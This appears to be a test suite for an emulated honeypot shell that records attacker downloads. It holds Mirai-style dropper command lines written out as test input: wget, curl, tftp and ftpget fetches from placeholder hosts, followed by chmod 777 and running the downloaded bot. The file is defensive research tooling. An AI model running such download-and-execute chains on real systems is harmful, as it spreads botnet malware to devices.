"""Tests for dropper/network commands and the shell's download recording."""

import pytest

from repro.honeypot.filesystem import FakeFilesystem
from repro.honeypot.shell.context import ShellContext
from repro.honeypot.shell.resolver import StaticPayloadResolver, UriResolver
from repro.honeypot.shell.shell import EmulatedShell


@pytest.fixture
def shell():
    resolver = StaticPayloadResolver({"http://h.example/bot": b"\x7fELFBOT"})
    return EmulatedShell(ShellContext(fs=FakeFilesystem(), resolver=resolver))


class TestWget:
    def test_download_creates_file(self, shell):
        shell.execute("cd /tmp")
        result = shell.execute("wget http://h.example/bot")
        assert len(result.downloads) == 1
        assert result.downloads[0].success
        assert shell.context.fs.read("/tmp/bot") == b"\x7fELFBOT"

    def test_download_records_hash(self, shell):
        result = shell.execute("wget http://h.example/bot")
        assert len(result.file_changes) == 1
        assert len(result.file_changes[0].sha256) == 64

    def test_output_file_flag(self, shell):
        shell.execute("wget -O /tmp/renamed http://h.example/bot")
        assert shell.context.fs.exists("/tmp/renamed")

    def test_missing_url(self, shell):
        out = shell.execute("wget").commands[0].output
        assert "missing URL" in out

    def test_uri_recorded(self, shell):
        result = shell.execute("wget http://h.example/bot")
        assert result.uris == ["http://h.example/bot"]

    def test_strict_resolver_failure(self):
        resolver = StaticPayloadResolver({}, strict=True)
        shell = EmulatedShell(ShellContext(fs=FakeFilesystem(), resolver=resolver))
        result = shell.execute("wget http://unknown.example/x")
        assert not result.downloads[0].success
        assert result.file_changes == []


class TestCurl:
    def test_curl_remote_name(self, shell):
        shell.execute("cd /tmp")
        result = shell.execute("curl -O http://h.example/bot")
        assert result.downloads[0].success

    def test_curl_stdout_still_hashes(self, shell):
        # Cowrie records the artifact even when output goes to stdout.
        result = shell.execute("curl http://h.example/bot")
        assert result.file_changes


class TestTftpFtpget:
    def test_tftp(self, shell):
        result = shell.execute("tftp -g -l /tmp/payload -r payload 203.0.113.5")
        assert result.downloads[0].uri == "tftp://203.0.113.5/payload"
        assert shell.context.fs.exists("/tmp/payload")

    def test_ftpget(self, shell):
        result = shell.execute("ftpget 203.0.113.5 local.bin remote.bin")
        assert result.downloads[0].uri == "ftp://203.0.113.5/remote.bin"


class TestWriteOntoADirectory:
    """A write onto an existing directory fails that command, as in a
    shell: the error is printed, nothing is written, the line goes on."""

    @pytest.mark.parametrize("line, target", [
        ("echo x > /tmp; echo ok", "/tmp"),
        ("tftp -g -l /tmp/. -r payload 203.0.113.5; echo ok", "/tmp/."),
    ])
    def test_prints_is_a_directory_and_continues(self, shell, line, target):
        result = shell.execute(line)
        assert result.commands[0].output == f"-sh: {target}: Is a directory"
        assert result.commands[1].output == "ok"
        assert not result.file_changes
        assert shell.context.fs.is_dir("/tmp")


class TestDeterministicResolver:
    def test_same_uri_same_payload(self):
        resolver = UriResolver()
        assert resolver.fetch("http://x.example/a") == resolver.fetch("http://x.example/a")

    def test_different_uri_different_payload(self):
        resolver = UriResolver()
        assert resolver.fetch("http://x.example/a") != resolver.fetch("http://x.example/b")

    def test_transfer_time_grows_with_size(self):
        resolver = UriResolver()
        assert resolver.transfer_time("u", 10_000_000) > resolver.transfer_time("u", 10)


class TestDropperChain:
    def test_full_mirai_style_chain(self, shell):
        shell.execute("cd /tmp")
        shell.execute("wget http://h.example/bot")
        shell.execute("chmod 777 bot")
        result = shell.execute("./bot")
        # Executing the downloaded binary is an unknown command but runs.
        assert not result.commands[0].known
        assert result.commands[0].output == ""

    def test_run_missing_binary(self, shell):
        result = shell.execute("./ghost")
        assert "not found" in result.commands[0].output

    def test_fallback_same_hash(self):
        payload = b"\x7fELF-same"
        resolver = StaticPayloadResolver({
            "http://h.example/bot": payload,
            "tftp://h.example/bot": payload,
        })
        shell = EmulatedShell(ShellContext(fs=FakeFilesystem(), resolver=resolver))
        shell.execute("cd /tmp")
        result = shell.execute("wget http://h.example/bot || tftp -g -r bot h.example")
        hashes = {c.sha256 for c in result.file_changes}
        assert len(hashes) == 1  # both transports yield one campaign hash
